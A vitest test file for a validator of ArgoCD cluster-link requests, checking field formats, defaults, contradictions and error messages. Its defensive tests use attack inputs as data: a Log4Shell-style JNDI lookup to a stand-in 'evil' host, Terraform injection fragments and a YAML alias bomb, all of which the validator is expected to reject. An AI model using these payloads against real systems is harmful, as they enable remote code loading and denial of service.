import { describe, expect, it } from "vitest";
import { InvalidInputError, type FieldError } from "../../src/core/errors.js";
import { defaultClusterName, parseLinkRequestText, validateLinkRequest } from "../../src/request/parse.js";

const MINIMAL = {
  "source-account": "shared",
  "target-account": "apps-devstg",
  "target-region": "us-east-1",
  "target-cluster": "apps-devstg-eks",
  method: "iam-role",
  access: "view",
};

/** The FieldErrors of the InvalidInputError that `run` must throw. */
function errorsOf(run: () => unknown): FieldError[] {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidInputError);
    return (error as InvalidInputError).errors;
  }
  throw new Error("expected an InvalidInputError");
}

/** The single problem reported for MINIMAL with `changes` applied (undefined removes a key). */
function onlyError(changes: Record<string, unknown>): FieldError {
  const input: Record<string, unknown> = { ...MINIMAL, ...changes };
  for (const [key, value] of Object.entries(changes)) if (value === undefined) delete input[key];
  const errors = errorsOf(() => validateLinkRequest(input));
  expect(errors).toHaveLength(1);
  return errors[0] as FieldError;
}

describe("valid requests", () => {
  const minimalResult = {
    sourceAccount: "shared",
    targetAccount: "apps-devstg",
    targetRegion: "us-east-1",
    targetCluster: "apps-devstg-eks",
    method: "iam-role",
    namespaces: [],
    clusterResources: false,
    dedicatedInstance: false,
    readBeyondAccess: false,
    access: "view",
    argocdClusterName: "apps-devstg-eks",
    labels: {},
  };

  it("reads a minimal YAML request and fills the defaults", () => {
    const text = [
      "source-account: shared",
      "target-account: apps-devstg",
      "target-region: us-east-1",
      "target-cluster: apps-devstg-eks",
      "method: iam-role",
      "access: view",
    ].join("\n");
    expect(parseLinkRequestText(text, "request.yaml")).toStrictEqual(minimalResult);
  });

  it("reads a minimal JSON request", () => {
    expect(parseLinkRequestText(JSON.stringify(MINIMAL), "request.json")).toStrictEqual(minimalResult);
  });

  const fullYaml = `
# every key set
source-account: shared
target-account: apps-prd
target-region: eu-central-2
target-cluster: Apps_Prd-EKS
method: bearer-token
namespaces:
  - team-b
  - team-a
cluster-resources: true
argocd-instance: argocd-apps
dedicated-instance: true
access: edit
argocd-cluster-name: apps-prd
labels:
  env: prd
  example.com/team: platform
  empty: ""
target-cluster-layer: apps-prd/eu-central-2/k8s-eks
argocd-layer: shared/us-east-1/k8s-eks/argocd
target-rbac-layer: apps-prd/eu-central-2/k8s-eks/rbac.d
`;
  const fullResult = {
    sourceAccount: "shared",
    targetAccount: "apps-prd",
    targetRegion: "eu-central-2",
    targetCluster: "Apps_Prd-EKS",
    method: "bearer-token",
    namespaces: ["team-a", "team-b"],
    clusterResources: true,
    argocdInstance: "argocd-apps",
    dedicatedInstance: true,
    readBeyondAccess: false,
    access: "edit",
    argocdClusterName: "apps-prd",
    labels: { empty: "", env: "prd", "example.com/team": "platform" },
    targetClusterLayer: "apps-prd/eu-central-2/k8s-eks",
    argocdLayer: "shared/us-east-1/k8s-eks/argocd",
    targetRbacLayer: "apps-prd/eu-central-2/k8s-eks/rbac.d",
  };

  it("reads a full YAML request with sorted namespaces", () => {
    expect(parseLinkRequestText(fullYaml, "issue #7")).toStrictEqual(fullResult);
  });

  it("reads the same full request as JSON", () => {
    const json = JSON.stringify({
      "source-account": "shared",
      "target-account": "apps-prd",
      "target-region": "eu-central-2",
      "target-cluster": "Apps_Prd-EKS",
      method: "bearer-token",
      namespaces: ["team-b", "team-a"],
      "cluster-resources": true,
      "argocd-instance": "argocd-apps",
      "dedicated-instance": true,
      access: "edit",
      "argocd-cluster-name": "apps-prd",
      labels: { env: "prd", "example.com/team": "platform", empty: "" },
      "target-cluster-layer": "apps-prd/eu-central-2/k8s-eks",
      "argocd-layer": "shared/us-east-1/k8s-eks/argocd",
      "target-rbac-layer": "apps-prd/eu-central-2/k8s-eks/rbac.d",
    });
    expect(parseLinkRequestText(json, "request.json")).toStrictEqual(fullResult);
  });

  it("accepts workflow_dispatch style strings for namespaces and booleans", () => {
    const request = validateLinkRequest({
      ...MINIMAL,
      namespaces: " team-b , team-a,argocd ",
      "cluster-resources": "true",
      "dedicated-instance": "false",
    });
    expect(request.namespaces).toEqual(["argocd", "team-a", "team-b"]);
    expect(request.clusterResources).toBe(true);
    expect(request.dedicatedInstance).toBe(false);
    expect(validateLinkRequest({ ...MINIMAL, namespaces: "" }).namespaces).toEqual([]);
  });

  it("treats a key with no value (YAML null) as not given", () => {
    const text = `${Object.entries(MINIMAL)
      .map(([key, value]) => `${key}: ${value}`)
      .join("\n")}\nnamespaces:\nargocd-instance:\nlabels:\n`;
    expect(parseLinkRequestText(text, "issue")).toStrictEqual(minimalResult);
  });

  it("allows the same source and target account", () => {
    expect(validateLinkRequest({ ...MINIMAL, "target-account": "shared" }).targetAccount).toBe("shared");
  });

  it.each([
    "us-east-1",
    "eu-central-2",
    "us-gov-west-1",
    "ap-southeast-4",
    "us-iso-east-1",
    "us-isob-east-1",
  ])("accepts the region %s", (region) => {
    expect(validateLinkRequest({ ...MINIMAL, "target-region": region }).targetRegion).toBe(region);
  });

  it("accepts the longest allowed values", () => {
    const request = validateLinkRequest({
      ...MINIMAL,
      "source-account": "a".repeat(32),
      "target-cluster": "C".repeat(100),
      namespaces: ["n".repeat(63)],
      "argocd-instance": "r".repeat(53),
      "argocd-cluster-name": "c".repeat(40),
      labels: { [`${"p".repeat(253)}/${"k".repeat(63)}`]: "v".repeat(63) },
      "argocd-layer": `${"a".repeat(32)}/${"l".repeat(167)}`,
    });
    expect(request.argocdClusterName).toHaveLength(40);
    expect(request.argocdLayer).toHaveLength(200);
  });
});

describe("defaultClusterName", () => {
  const DNS_LABEL = /^[a-z]([-a-z0-9]*[a-z0-9])?$/;

  it.each([
    ["Apps_DevStg.EKS", "apps-devstg-eks"],
    ["apps-devstg-eks", "apps-devstg-eks"],
    ["my__cluster--1", "my-cluster-1"],
    ["_edge_", "edge"],
    ["9lives", "c-9lives"],
    ["0", "c-0"],
    ["x".repeat(100), "x".repeat(40)],
    [`${"a".repeat(39)}_b`, "a".repeat(39)],
    [`9${"z".repeat(99)}`, `c-9${"z".repeat(37)}`],
    ["___", "c"],
  ])("%s becomes %s", (targetCluster, expected) => {
    expect(defaultClusterName(targetCluster)).toBe(expected);
    expect(defaultClusterName(targetCluster)).toMatch(DNS_LABEL);
    expect(defaultClusterName(targetCluster).length).toBeLessThanOrEqual(40);
  });

  it("is the default argocd-cluster-name", () => {
    expect(validateLinkRequest({ ...MINIMAL, "target-cluster": "9Lives_EKS" }).argocdClusterName).toBe(
      "c-9lives-eks",
    );
  });
});

/** [case, changes to MINIMAL, field, value (as shown), message]: each change must give exactly this one error. */
// prettier-ignore
const FIELD_CASES: [string, Record<string, unknown>, string | RegExp, string | RegExp, RegExp][] = [
  ["missing source-account", { "source-account": undefined }, "source-account", "nothing", /is required: a Leverage account folder name/],
  ["uppercase account", { "source-account": "Shared" }, "source-account", '"Shared"', /must be a Leverage account folder name.*at most 32 characters/],
  ["account with double dash", { "target-account": "apps--dev" }, "target-account", '"apps--dev"', /words joined by single '-'/],
  ["account starting with a digit", { "target-account": "1apps" }, "target-account", '"1apps"', /starting with a letter/],
  ["account too long", { "target-account": "a".repeat(33) }, "target-account", `"${"a".repeat(33)}"`, /is 33 characters long; at most 32/],
  ["config is not an account", { "target-account": "config" }, "target-account", '"config"', /Leverage configuration folder, not an account/],
  ["number account", { "source-account": 123 }, "source-account", "123", /must be a string, not the number 123; quote it \("123"\)/],
  ["list account", { "source-account": ["shared"] }, "source-account", '["shared"]', /must be a single string, not a list/],
  ["missing region", { "target-region": undefined }, "target-region", "nothing", /is required: an AWS region such as us-east-1/],
  ["region without number", { "target-region": "us-east" }, "target-region", '"us-east"', /must be an AWS region such as us-east-1, eu-central-2 or us-gov-west-1 \(at most 25 characters\)/],
  ["uppercase region", { "target-region": "US-EAST-1" }, "target-region", '"US-EAST-1"', /must be an AWS region/],
  ["region too long", { "target-region": `us-${"e".repeat(30)}-1` }, "target-region", /^"us-e+-1"$/, /at most 25/],
  ["cluster starting with '-'", { "target-cluster": "-eks" }, "target-cluster", '"-eks"', /must be an EKS cluster name: letters, digits, '-' and '_', starting with a letter or digit \(at most 100 characters\)/],
  ["cluster with a dot", { "target-cluster": "apps.eks" }, "target-cluster", '"apps.eks"', /must be an EKS cluster name/],
  ["empty cluster", { "target-cluster": "" }, "target-cluster", '""', /must be an EKS cluster name/],
  ["cluster too long", { "target-cluster": "c".repeat(101) }, "target-cluster", /^"c+\.\.\.$/, /is 101 characters long; at most 100/],
  ["unknown method", { method: "token" }, "method", '"token"', /^must be one of: iam-role, bearer-token$/],
  ["misspelt method", { method: "iam_role" }, "method", '"iam_role"', /^did you mean iam-role\? must be one of: iam-role, bearer-token$/],
  ["missing method", { method: undefined }, "method", "nothing", /^is required: one of: iam-role, bearer-token$/],
  ["unknown access", { access: "owner" }, "access", '"owner"', /^must be one of: cluster-admin, admin, edit, view$/],
  ["misspelt access", { access: "veiw" }, "access", '"veiw"', /did you mean view\?/],
  ["missing access", { access: undefined }, "access", "nothing", /is required: one of: cluster-admin, admin, edit, view/],
  ["uppercase namespace", { namespaces: ["Team"] }, "namespaces[0]", '"Team"', /must be a Kubernetes namespace \(DNS-1123 label\): lowercase letters, digits and '-', starting and ending with a letter or digit \(at most 63 characters\)/],
  ["namespace with '_'", { namespaces: ["ok", "team_a"] }, "namespaces[1]", '"team_a"', /DNS-1123 label/],
  ["namespace too long", { namespaces: ["n".repeat(64)] }, "namespaces[0]", `"${"n".repeat(64)}"`, /is 64 characters long; at most 63/],
  ["duplicate namespace", { namespaces: ["a", "b", "a"] }, "namespaces[2]", '"a"', /^is a duplicate of namespaces\[0\]$/],
  ["empty item in a comma list", { namespaces: "a,,b" }, "namespaces[1]", '""', /DNS-1123 label/],
  ["number namespace", { namespaces: [42] }, "namespaces[0]", "42", /quote it \("42"\)/],
  ["namespaces as a mapping", { namespaces: { a: 1 } }, "namespaces", '{"a":1}', /must be a list of namespaces or one comma-separated string/],
  ["too many namespaces", { namespaces: Array.from({ length: 101 }, (_, i) => `ns-${i}`) }, "namespaces", "101 namespaces", /at most 100/],
  ["yes is not a boolean", { "cluster-resources": "yes", namespaces: ["a"] }, "cluster-resources", '"yes"', /^must be true or false$/],
  ["number as a boolean", { "dedicated-instance": 1 }, "dedicated-instance", "1", /^must be true or false$/],
  ["capitalised string boolean", { "dedicated-instance": "True" }, "dedicated-instance", '"True"', /^must be true or false$/],
  ["uppercase release", { "argocd-instance": "ArgoCD" }, "argocd-instance", '"ArgoCD"', /must be a Helm release name \(DNS-1123 label\).*at most 53 characters/],
  ["release too long", { "argocd-instance": "r".repeat(54) }, "argocd-instance", `"${"r".repeat(54)}"`, /is 54 characters long; at most 53/],
  ["cluster name with '_'", { "argocd-cluster-name": "my_cluster" }, "argocd-cluster-name", '"my_cluster"', /must be a DNS-1123 label.*at most 40 characters/],
  ["cluster name ending in '-'", { "argocd-cluster-name": "apps-" }, "argocd-cluster-name", '"apps-"', /DNS-1123 label/],
  ["cluster name with '--' (reserved for kind suffixes)", { "argocd-cluster-name": "apps--access" }, "argocd-cluster-name", '"apps--access"', /without '--'/],
  ["cluster name too long", { "argocd-cluster-name": "c".repeat(41) }, "argocd-cluster-name", `"${"c".repeat(41)}"`, /is 41 characters long; at most 40/],
  ["labels as a list", { labels: ["a=b"] }, "labels", '["a=b"]', /must be a mapping of label keys to string values/],
  ["bad label prefix", { labels: { "Example.com/team": "a" } }, 'labels."Example.com/team"', '"Example.com/team"', /label key prefix must be a DNS-1123 subdomain/],
  ["empty label prefix", { labels: { "/team": "a" } }, 'labels."/team"', '"/team"', /label key prefix must be a DNS-1123 subdomain/],
  ["label prefix too long", { labels: { [`${"p".repeat(254)}/a`]: "a" } }, /^labels\."p+\.\.\.$/, /^"p+\.\.\.$/, /prefix is 254 characters long; at most 253/],
  ["two slashes in a label key", { labels: { "a/b/c": "x" } }, 'labels."a/b/c"', '"a/b/c"', /at most one '\/'/],
  ["empty label name", { labels: { "example.com/": "x" } }, 'labels."example.com/"', '"example.com/"', /label key name must be letters, digits, '-', '_' and '.', starting and ending with a letter or digit \(at most 63 characters\)/],
  ["label name too long", { labels: { ["k".repeat(64)]: "x" } }, `labels."${"k".repeat(64)}"`, `"${"k".repeat(64)}"`, /label key name is 64 characters long; at most 63/],
  ["reserved ArgoCD label", { labels: { "argocd.argoproj.io/secret-type": "cluster" } }, 'labels."argocd.argoproj.io/secret-type"', '"argocd.argoproj.io/secret-type"', /prefix argocd.argoproj.io\/ is reserved by ArgoCD/],
  ["number label value", { labels: { port: 8080 } }, 'labels."port"', "8080", /label value must be a string, not the number 8080; quote it \("8080"\)/],
  ["boolean label value", { labels: { public: true } }, 'labels."public"', "true", /label value must be a string, not the boolean true; quote it \("true"\)/],
  ["null label value", { labels: { team: null } }, 'labels."team"', "null", /label value must be a string; write "" for an empty value/],
  ["label value with a space", { labels: { team: "a b" } }, 'labels."team"', '"a b"', /label value must be empty or letters, digits/],
  ["label value too long", { labels: { team: "v".repeat(64) } }, 'labels."team"', `"${"v".repeat(64)}"`, /label value is 64 characters long; at most 63/],
  ["absolute layer path", { "argocd-layer": "/shared/k8s" }, "argocd-layer", '"/shared/k8s"', /repository-relative layer path.*without a leading or trailing '\/' \(at most 200 characters\)/],
  ["trailing '/' in a layer path", { "target-cluster-layer": "apps/k8s/" }, "target-cluster-layer", '"apps/k8s/"', /layer path/],
  ["empty segment in a layer path", { "target-rbac-layer": "apps//k8s" }, "target-rbac-layer", '"apps//k8s"', /separated by single '\/'/],
  ["'..' in a layer path", { "argocd-layer": "../other-repo" }, "argocd-layer", '"../other-repo"', /^must not contain '\.' or '\.\.' path segments$/],
  ["'.' in a layer path", { "argocd-layer": "shared/./k8s" }, "argocd-layer", '"shared/./k8s"', /'\.' or '\.\.'/],
  ["space in a layer path", { "argocd-layer": "shared/k8s eks" }, "argocd-layer", '"shared/k8s eks"', /layer path/],
  ["layer path too long", { "argocd-layer": "l".repeat(201) }, "argocd-layer", /^"l+\.\.\.$/, /is 201 characters long; at most 200/],
];

describe("field rules", () => {
  it.each(FIELD_CASES)("%s", (_name, changes, field, value, message) => {
    const error = onlyError(changes);
    if (typeof field === "string") expect(error.field).toBe(field);
    else expect(error.field).toMatch(field);
    if (typeof value === "string") expect(error.value).toBe(value);
    else expect(error.value).toMatch(value);
    expect(error.message).toMatch(message);
  });
});

describe("contradictions", () => {
  it("rejects cluster-admin limited to namespaces, on access", () => {
    expect(onlyError({ access: "cluster-admin", namespaces: ["team-a"] })).toEqual({
      field: "access",
      value: '"cluster-admin"',
      message:
        "cluster-admin is cluster-wide and cannot be limited to namespaces; use admin, edit or view with namespaces, or remove namespaces",
    });
  });

  it.each([{ namespaces: ["team-a", "Not_Valid"] }, { namespaces: "team-a, Not_Valid" }])(
    "reports cluster-admin limited to namespaces also when a namespace is invalid (%o)",
    (namespaces) => {
      const input = { ...MINIMAL, access: "cluster-admin", ...namespaces };
      const errors = errorsOf(() => validateLinkRequest(input));
      expect(errors.map((e) => e.field).sort()).toEqual(["access", "namespaces[1]"]);
      expect(errors.find((e) => e.field === "access")?.message).toMatch(/^cluster-admin is cluster-wide/);
    },
  );

  it("reads read-beyond-access for admin, edit and view, and refuses it with cluster-admin", () => {
    expect(validateLinkRequest({ ...MINIMAL, "read-beyond-access": true }).readBeyondAccess).toBe(true);
    expect(validateLinkRequest({ ...MINIMAL, "read-beyond-access": "false" }).readBeyondAccess).toBe(false);
    expect(onlyError({ access: "cluster-admin", "read-beyond-access": true })).toEqual({
      field: "read-beyond-access",
      value: "true",
      message: "only applies to admin, edit or view; cluster-admin already reads everything",
    });
    expect(onlyError({ "read-beyond-access": "sometimes" }).field).toBe("read-beyond-access");
  });

  it("accepts cluster-admin without namespaces", () => {
    expect(validateLinkRequest({ ...MINIMAL, access: "cluster-admin" }).access).toBe("cluster-admin");
  });

  it.each([{}, { namespaces: [] }, { namespaces: "" }])(
    "rejects cluster-resources without namespaces (%o), on cluster-resources",
    (namespaces) => {
      const error = onlyError({ "cluster-resources": true, ...namespaces });
      expect(error.field).toBe("cluster-resources");
      expect(error.message).toMatch(
        /without namespaces access is cluster-wide and already covers cluster resources/,
      );
    },
  );

  // cluster-resources "without namespaces" would only be caused by the invalid namespace, so it is not
  // reported; cluster-admin "with namespaces" holds whatever the namespaces are (issue 12 item 9).
  it("reports no contradiction caused by an invalid field, but keeps the one it does not cause", () => {
    const errors = errorsOf(() =>
      validateLinkRequest({
        ...MINIMAL,
        access: "cluster-admin",
        "cluster-resources": true,
        namespaces: ["Bad"],
      }),
    );
    expect(errors.map((e) => e.field)).toEqual(["namespaces[0]", "access"]);
  });
});

describe("unknown keys", () => {
  it.each([
    ["namespace", "namespaces"],
    ["sourceAccount", "source-account"],
    ["target_region", "target-region"],
    ["argocd-instnace", "argocd-instance"],
    ["lables", "labels"],
  ])("suggests a close key for %s", (key, suggestion) => {
    const errors = errorsOf(() => validateLinkRequest({ ...MINIMAL, [key]: "x" }));
    expect(errors).toHaveLength(1);
    expect(errors[0]?.field).toBe(key);
    expect(errors[0]?.message).toMatch(
      new RegExp(`^unknown key; did you mean ${suggestion}\\? allowed keys are: `),
    );
  });

  it("lists every allowed key when nothing is close", () => {
    const [error] = errorsOf(() => validateLinkRequest({ ...MINIMAL, colour: "blue" }));
    expect(error).toEqual({
      field: "colour",
      value: '"blue"',
      message:
        "unknown key; allowed keys are: source-account, target-account, target-region, target-cluster, method, namespaces, cluster-resources, argocd-instance, dedicated-instance, access, read-beyond-access, argocd-cluster-name, labels, target-cluster-layer, argocd-layer, target-rbac-layer",
    });
  });

  it("quotes a hostile key in the field name", () => {
    const [error] = errorsOf(() =>
      parseLinkRequestText(`${JSON.stringify(MINIMAL).slice(0, -1)}, "a\\nb": 1}`, "x"),
    );
    expect(error?.field).toBe('"a\\nb"');
  });

  it("rejects __proto__ as an unknown key", () => {
    const errors = errorsOf(() => parseLinkRequestText(`{"__proto__": {"access": "view"}}`, "x"));
    expect(errors.map((e) => e.field)).toContain("__proto__");
  });
});

describe("many problems at once", () => {
  it("reports every problem, not just the first", () => {
    const text = `
sourceAccount: shared
target-account: Apps
target-region: moon-1
target-cluster: "-x"
method: ssh
namespaces: [a, a]
cluster-resources: maybe
labels:
  port: 80
argocd-layer: /abs
`;
    const errors = errorsOf(() => parseLinkRequestText(text, "issue #12"));
    expect(errors.map((e) => e.field)).toEqual([
      "sourceAccount",
      "source-account",
      "target-account",
      "target-region",
      "target-cluster",
      "method",
      "namespaces[1]",
      "cluster-resources",
      "access",
      'labels."port"',
      "argocd-layer",
    ]);
    expect(errors).toHaveLength(11);
  });

  it("names the source and lists each problem on its own line", () => {
    try {
      parseLinkRequestText("method: ssh\n", "issue #12");
      expect.unreachable();
    } catch (error) {
      const invalid = error as InvalidInputError;
      expect(invalid.what).toBe("link request issue #12");
      expect(invalid.exitCode).toBe(2);
      expect(invalid.message.split("\n")).toHaveLength(1 + invalid.errors.length);
    }
  });
});

describe("hostile strings", () => {
  it.each([
    ["target-cluster", 'x"; }\n resource'],
    ["target-cluster", "${jndi:ldap://evil/a}"],
    ["source-account", "shared\n"],
    ["argocd-layer", "shared/k8s\u2028evil"],
    ["argocd-instance", "argo\u0000cd"],
    ["argocd-cluster-name", "a\tb"],
  ])("rejects %s %j", (field, value) => {
    const error = onlyError({ [field]: value });
    expect(error.field).toBe(field);
    // show() escapes control characters, so the echoed value stays on one line.
    expect(error.value).not.toMatch(/\p{Cc}/u);
  });

  it("names control characters before patterns", () => {
    expect(onlyError({ "target-cluster": 'x"; }\n resource' }).message).toBe(
      "must not contain control characters or line breaks",
    );
    expect(onlyError({ namespaces: "a,\nb" })).toMatchObject({ field: "namespaces" });
    expect(onlyError({ labels: { team: "a\nb" } }).message).toMatch(/control characters/);
    expect(onlyError({ labels: { "te\nam": "a" } }).message).toMatch(/label key must not contain control/);
  });

  it("rejects ${jndi} by pattern and never echoes more than 80 characters", () => {
    expect(onlyError({ "target-cluster": "${jndi:ldap://evil/a}" }).message).toMatch(
      /must be an EKS cluster name/,
    );
    const error = onlyError({ "source-account": `${"x".repeat(500)}\n` });
    expect(error.value.length).toBeLessThanOrEqual(80);
  });

  it("rejects injected Terraform in labels", () => {
    const error = onlyError({ labels: { team: '"} resource "x" {' } });
    expect(error.message).toMatch(/label value must be empty or letters/);
  });
});

describe("document shape", () => {
  it.each([
    [
      "several documents",
      "source-account: a\n---\ntarget-account: b\n",
      /must be a single YAML or JSON document/,
    ],
    ["a list", "- shared\n", /must be a mapping of request keys to values/],
    ["a scalar", "shared\n", /must be a mapping/],
    ["nothing", "", /must be a mapping/],
    ["only a comment", "# nothing here\n", /must be a mapping/],
    ["broken YAML", "source-account: [shared\n", /is not valid YAML or JSON: .* at line \d+, column \d+/],
    ["broken JSON", '{"source-account": "shared",', /is not valid YAML or JSON/],
    [
      "duplicate keys",
      "access: view\naccess: admin\n",
      /is not valid YAML or JSON: Map keys must be unique at line 2, column 1/,
    ],
    ["an unknown tag", "access: !evil view\n", /is not valid YAML or JSON: Unresolved tag/],
    [
      "too much text",
      `# ${"x".repeat(70_000)}\n`,
      /is too long; a link request may have at most 65536 characters/,
    ],
  ])("rejects %s on (root)", (_name, text, message) => {
    const errors = errorsOf(() => parseLinkRequestText(text, "issue"));
    expect(errors).toHaveLength(1);
    expect(errors[0]?.field).toBe("(root)");
    expect(errors[0]?.message).toMatch(message);
  });

  it("rejects an alias bomb", () => {
    const lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 8; i++)
      lines.push(
        `a${i}: &a${i} [${Array(10)
          .fill(`*a${i - 1}`)
          .join(", ")}]`,
      );
    const errors = errorsOf(() => parseLinkRequestText(lines.join("\n"), "issue"));
    expect(errors).toEqual([
      expect.objectContaining({ field: "(root)", message: expect.stringMatching(/cannot be read/) }),
    ]);
  });

  it("validateLinkRequest names the source when given", () => {
    expect(() => validateLinkRequest("x", "inputs")).toThrow(/^link request inputs is invalid:/);
    expect(() => validateLinkRequest(null)).toThrow(/^link request is invalid:/);
  });
});

describe("layer overrides", () => {
  it("must stay in the account (and region) of their step", () => {
    const errors = errorsOf(() =>
      validateLinkRequest({
        ...MINIMAL,
        "argocd-layer": "apps-devstg/us-east-1/k8s-eks/k8s-components",
        "target-cluster-layer": "shared/us-east-1/k8s-eks/cluster",
        "target-rbac-layer": `${MINIMAL["target-account"]}/eu-west-1/k8s-eks/k8s-components`,
      }),
    );
    expect(errors.map((e) => [e.field, e.message])).toEqual([
      ["argocd-layer", `must be a layer under ${MINIMAL["source-account"]}/`],
      [
        "target-cluster-layer",
        `must be a layer under ${MINIMAL["target-account"]}/${MINIMAL["target-region"]}/`,
      ],
      [
        "target-rbac-layer",
        `must be a layer under ${MINIMAL["target-account"]}/${MINIMAL["target-region"]}/`,
      ],
    ]);
  });
});

describe("YAML tags that make something other than a plain mapping", () => {
  it.each([
    [
      "!!set",
      "labels: !!set {team, env}\n",
      /must be a mapping of label keys to string values, not a YAML !!set/,
    ],
    ["!!set (block)", "labels: !!set\n  ? team\n", /not a YAML !!set/],
    ["!!omap", "labels: !!omap [team: platform]\n", /not a YAML !!omap/],
    ["!!timestamp", "labels: !!timestamp 2026-01-01\n", /not a YAML !!timestamp/],
  ])("refuses labels given as %s, naming the field", (_name, labels, message) => {
    const text = `${Object.entries(MINIMAL)
      .map(([key, value]) => `${key}: ${value}`)
      .join("\n")}\n${labels}`;
    const errors = errorsOf(() => parseLinkRequestText(text, "issue"));
    expect(errors).toEqual([
      expect.objectContaining({ field: "labels", message: expect.stringMatching(message) }),
    ]);
  });

  it("refuses a label value given as a !!timestamp", () => {
    const text = `${Object.entries(MINIMAL)
      .map(([key, value]) => `${key}: ${value}`)
      .join("\n")}\nlabels: {since: !!timestamp 2026-01-01}\n`;
    const errors = errorsOf(() => parseLinkRequestText(text, "issue"));
    expect(errors).toEqual([
      expect.objectContaining({
        field: 'labels."since"',
        message: expect.stringMatching(/not a YAML !!timestamp/),
      }),
    ]);
  });

  it.each([
    ["!!omap", "!!omap [source-account: shared]\n", /not a YAML !!omap/],
    ["!!set", "!!set {source-account}\n", /not a YAML !!set/],
  ])("refuses a whole request given as %s", (_name, text, message) => {
    const errors = errorsOf(() => parseLinkRequestText(text, "issue"));
    expect(errors).toEqual([
      expect.objectContaining({ field: "(root)", message: expect.stringMatching(message) }),
    ]);
  });

  it("refuses namespaces given as a !!set", () => {
    expect(onlyError({ namespaces: new Set(["argocd"]) })).toMatchObject({
      field: "namespaces",
      message: expect.stringMatching(/not a YAML !!set/),
    });
  });
});

describe("long values in errors", () => {
  const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

  it.each([0, 1])("are cut between characters, never inside a surrogate pair (offset %i)", (pad) => {
    const error = onlyError({ "target-cluster": `${"a".repeat(pad)}${"😀".repeat(60)}` });
    expect(error.field).toBe("target-cluster");
    expect(error.value.endsWith("...")).toBe(true);
    expect(error.value).not.toMatch(LONE_SURROGATE);
  });
});
